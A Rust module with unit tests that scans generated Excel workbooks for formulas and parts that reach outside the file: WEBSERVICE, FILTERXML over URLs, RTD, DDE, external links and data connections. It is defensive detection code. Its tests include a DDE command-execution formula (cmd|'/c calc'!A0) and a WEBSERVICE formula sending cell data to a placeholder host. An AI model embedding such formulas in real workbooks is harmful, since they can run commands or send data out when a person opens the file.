//! Scanning produced workbooks for what would fetch from outside once a person opens them:
//! WEBSERVICE (and FILTERXML over a URL), RTD, DDE (`=cmd|'...'!A0`), links to other
//! workbooks (`externalLinks/` parts, `[1]Sheet!A1` references) and data connections.
//! The sandbox cannot reach the network, but the file it writes travels on: these are
//! reported in summary.json and the job's log, not silently delivered.

use serde::Serialize;
use std::io::Read;
use std::path::Path;

/// Largest part read from one workbook, uncompressed (zip bombs stop here).
const MAX_PART_BYTES: u64 = 64 << 20;
/// Parts looked at per workbook.
const MAX_PARTS: usize = 2_000;
/// Findings kept per workbook.
const MAX_FINDINGS: usize = 50;

/// One thing in a workbook that reaches outside it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ExternalReference {
    /// The workbook, relative to the output folder.
    pub file: String,
    /// The part of the package it is in (e.g. `xl/worksheets/sheet1.xml`).
    pub part: String,
    /// `webservice`, `filterxml_url`, `rtd`, `dde`, `external_workbook`,
    /// `external_link`, `data_connection`.
    pub kind: String,
    /// The formula or part name, clipped.
    pub detail: String,
}

/// Whether a produced file is a workbook package this scan reads.
pub fn is_scanned(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower.ends_with(".xlsx") || lower.ends_with(".xlsm")
}

/// The external references of the workbook at `path` (`name` is how it is reported). A
/// file that is not a readable zip yields nothing: it is not a workbook Excel would open.
pub fn scan_workbook(path: &Path, name: &str) -> Vec<ExternalReference> {
    let Ok(file) = std::fs::File::open(path) else {
        return Vec::new();
    };
    let Ok(mut archive) = zip::ZipArchive::new(file) else {
        return Vec::new();
    };
    let mut found = Vec::new();
    let mut finding = |part: &str, kind: &str, detail: &str| {
        if found.len() < MAX_FINDINGS {
            found.push(ExternalReference {
                file: name.to_string(),
                part: part.to_string(),
                kind: kind.to_string(),
                detail: clip(detail, 200),
            });
        }
    };
    for index in 0..archive.len().min(MAX_PARTS) {
        let Ok(mut entry) = archive.by_index(index) else {
            continue;
        };
        let Ok(part) = entry.name().map(|name| name.into_owned()) else {
            continue;
        };
        if part.starts_with("xl/externalLinks/") && part.ends_with(".xml") {
            finding(&part, "external_link", &part);
            continue;
        }
        if part == "xl/connections.xml" {
            finding(&part, "data_connection", &part);
            continue;
        }
        if !(part.starts_with("xl/worksheets/") && part.ends_with(".xml")) {
            continue;
        }
        let mut xml = Vec::new();
        if (&mut entry)
            .take(MAX_PART_BYTES)
            .read_to_end(&mut xml)
            .is_err()
        {
            continue;
        }
        for formula in formulas(&String::from_utf8_lossy(&xml)) {
            if let Some(kind) = classify(&formula) {
                finding(&part, kind, &formula);
            }
        }
    }
    found
}

/// The text of every `<f>` element, XML entities decoded.
fn formulas(xml: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(start) = rest.find("<f") {
        rest = &rest[start + 2..];
        // `<f>` or `<f attr=...>`, not `<foo>`; `<f .../>` has no text.
        if !rest.starts_with('>') && !rest.starts_with(' ') {
            continue;
        }
        let Some(open_end) = rest.find('>') else {
            break;
        };
        if rest[..open_end].ends_with('/') {
            rest = &rest[open_end + 1..];
            continue;
        }
        rest = &rest[open_end + 1..];
        let Some(close) = rest.find("</f>") else {
            break;
        };
        out.push(unescape(&rest[..close]));
        rest = &rest[close + 4..];
    }
    out
}

fn unescape(text: &str) -> String {
    text.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// What kind of outside reach a formula has, if any.
fn classify(formula: &str) -> Option<&'static str> {
    let upper = formula.to_ascii_uppercase();
    if upper.contains("WEBSERVICE(") {
        Some("webservice")
    } else if upper.contains("FILTERXML(") && upper.contains("://") {
        Some("filterxml_url")
    } else if upper.contains("RTD(") {
        Some("rtd")
    } else if is_dde(formula) {
        Some("dde")
    } else if is_external_workbook(formula) {
        Some("external_workbook")
    } else {
        None
    }
}

/// `app|topic!item` outside a string literal: `cmd|'/c calc'!A0`, `DDEAUTO`.
fn is_dde(formula: &str) -> bool {
    if formula.to_ascii_uppercase().contains("DDE") {
        return true;
    }
    let mut in_string = false;
    let mut pipe_seen = false;
    for c in formula.chars() {
        match c {
            '"' => in_string = !in_string,
            '|' if !in_string => pipe_seen = true,
            '!' if !in_string && pipe_seen => return true,
            _ => {}
        }
    }
    false
}

/// `[1]Sheet1!A1` or `'C:\path\[book.xlsx]Sheet'!A1` outside a string literal. Structured
/// table references (`Table1[Column]`) have no `!` after the bracket.
fn is_external_workbook(formula: &str) -> bool {
    let mut in_string = false;
    let chars: Vec<char> = formula.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        match c {
            '"' => in_string = !in_string,
            '[' if !in_string => {
                if let Some(close) = chars[i..].iter().position(|&c| c == ']') {
                    let after: String = chars[i + close + 1..].iter().take(64).collect();
                    let sheet_ref = after
                        .split(['!', ' ', ',', ')', '('])
                        .next()
                        .is_some_and(|s| !s.is_empty());
                    if sheet_ref && after.contains('!') {
                        return true;
                    }
                }
            }
            _ => {}
        }
    }
    false
}

fn clip(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        text.to_string()
    } else {
        let cut: String = text.chars().take(max).collect();
        format!("{cut}…")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn workbook(parts: &[(&str, &str)]) -> tempfile::NamedTempFile {
        let file = tempfile::NamedTempFile::new().unwrap();
        let mut zip = zip::ZipWriter::new(file.reopen().unwrap());
        for (name, body) in parts {
            zip.start_file(*name, zip::write::SimpleFileOptions::default())
                .unwrap();
            zip.write_all(body.as_bytes()).unwrap();
        }
        zip.finish().unwrap();
        file
    }

    fn sheet(formulas: &[&str]) -> String {
        let cells: String = formulas
            .iter()
            .map(|f| format!("<c r=\"A1\"><f>{f}</f><v>0</v></c>"))
            .collect();
        format!("<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>")
    }

    #[test]
    fn finds_each_kind_of_outside_reach() {
        let body = sheet(&[
            "WEBSERVICE(&quot;http://x.test/?d=&quot;&amp;A2)",
            "FILTERXML(B1,&quot;//a&quot;)&amp;FILTERXML(&quot;&lt;a href=&apos;https://x&apos;/&gt;&quot;,&quot;//a&quot;)",
            "cmd|&apos;/c calc&apos;!A0",
            "[1]Sheet1!A1*2",
            "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
        ]);
        let file = workbook(&[
            ("xl/worksheets/sheet1.xml", &body),
            ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
            ("xl/connections.xml", "<connections/>"),
        ]);
        let found = scan_workbook(file.path(), "out.xlsx");
        let kinds: Vec<&str> = found.iter().map(|f| f.kind.as_str()).collect();
        assert_eq!(
            kinds,
            [
                "webservice",
                "filterxml_url",
                "dde",
                "external_workbook",
                "rtd",
                "external_link",
                "data_connection"
            ]
        );
        assert_eq!(found[0].detail, "WEBSERVICE(\"http://x.test/?d=\"&A2)");
        assert_eq!(found[0].part, "xl/worksheets/sheet1.xml");
        assert_eq!(found[0].file, "out.xlsx");
    }

    #[test]
    fn ordinary_formulas_are_not_reported() {
        let body = sheet(&[
            "SUM(B2:B9)",
            "IF(A1=&quot;a|b!&quot;,1,0)",
            "Table1[Amount]*2",
            "SUM(Table1[[#This Row],[a]:[b]])",
            "Sheet2!A1+&apos;My Sheet&apos;!B2",
            "HYPERLINK(&quot;#Sheet2!A1&quot;)",
        ]);
        let file = workbook(&[("xl/worksheets/sheet1.xml", &body)]);
        assert_eq!(scan_workbook(file.path(), "out.xlsx"), []);
    }

    #[test]
    fn a_file_that_is_not_a_zip_yields_nothing() {
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), b"not a zip").unwrap();
        assert!(scan_workbook(file.path(), "x.xlsx").is_empty());
    }
}
